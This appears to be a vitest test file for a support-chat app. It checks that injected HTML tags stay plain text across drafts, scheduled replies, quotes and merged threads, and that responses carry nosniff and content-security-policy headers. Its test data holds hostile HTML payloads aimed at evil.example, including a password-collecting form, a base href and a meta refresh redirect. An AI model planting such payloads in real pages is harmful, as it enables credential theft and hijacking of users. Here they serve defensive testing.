/**
 * Tags that carry a page away (`form`, `base`, `meta`, `link`, `iframe`) in everything a person may write and somebody may
 * change later: a note, a draft, a scheduled reply, a quote, a rating, a merged thread. They stay the words they are.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { DraftAnswer, ThreadAnswer } from '../../core/api.ts';
import { newId } from '../../live/ids.ts';
import type { Desk } from '../desk.ts';
import { startDesk } from '../desk.ts';
import type { TestShop } from '../shops.ts';

let desk: Desk;
let shop: TestShop;
beforeAll(async () => {
  desk = await startDesk();
  shop = await desk.addShop();
});
afterAll(async () => {
  expect(desk.failures).toEqual([]);
  await desk.stop();
});

const tags = [
  '<form action="https://evil.example/"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><iframe srcdoc="&lt;script&gt;"></iframe>',
];

test.each(tags)('%s is never more than words, also where it is changed or merged', async (text) => {
  const { visitor, agent, path, conversationId } = await desk.served(shop, 'agent', { text });
  const draft = await agent.put(`${path}/drafts/reply`, { text, basedOn: null });
  expect(draft.status).toBe(200);
  const drafts = await agent.get<DraftAnswer[]>(`${path}/drafts`);
  expect(drafts.body).toMatchObject([{ text }]);
  const later = { text: '好的', sendAt: Date.now() + 3_600_000, evenIfWritten: true };
  const scheduled = await agent.post<{ scheduledId: string }>(`${path}/scheduled`, {
    clientId: newId(),
    ...later,
  });
  const changed = await agent.put(`${path}/scheduled/${scheduled.body.scheduledId}`, { ...later, text });
  expect(changed.status).toBe(200);
  await agent.post(`${path}/messages`, { clientId: newId(), text: '好的，马上帮您看看', quotes: 1 });
  const thread = await agent.get<ThreadAnswer>(path);
  expect(thread.body.messages).toMatchObject([{ text }, { quote: { text } }]);
  expect(thread.body.scheduled).toMatchObject([{ text }]);

  const { visitor: other, path: second } = await desk.served(shop, 'agent', { text });
  // Whoever waits is answered before their thread goes elsewhere.
  await agent.post(`${second}/messages`, { clientId: newId(), text: '好的，马上帮您看看' });
  const lead = await desk.signIn(shop, 'supervisor');
  const merged = await lead.post(`${second}/merge`, {
    into: conversationId,
  });
  expect(merged.status, merged.text).toBe(200);
  await other.say(text);
  const after = await lead.get<ThreadAnswer>(path);
  expect(after.body.messages.at(-1)!.text).toBe(text);

  const transcript = await visitor
    .with({ authorization: `Bearer ${visitor.token}` })
    .get('/widget/v1/transcript?lang=en');
  expect(transcript.text).toContain(text);
  expect(transcript.headers.get('content-type')).toMatch(/^text\/plain/);
  for (const { headers } of [drafts, changed, thread, after])
    expect(headers.get('content-type')).toMatch(/^application\/json/);
  for (const { headers } of [drafts, changed, thread, after, transcript]) {
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    const policy = headers.get('content-security-policy');
    // Were one of them ever drawn, it would lead nowhere.
    expect(policy).toMatch(/base-uri 'none'/);
    expect(policy).toMatch(/form-action 'self'/);
    expect(policy).toMatch(/default-src 'self'/);
  }
});
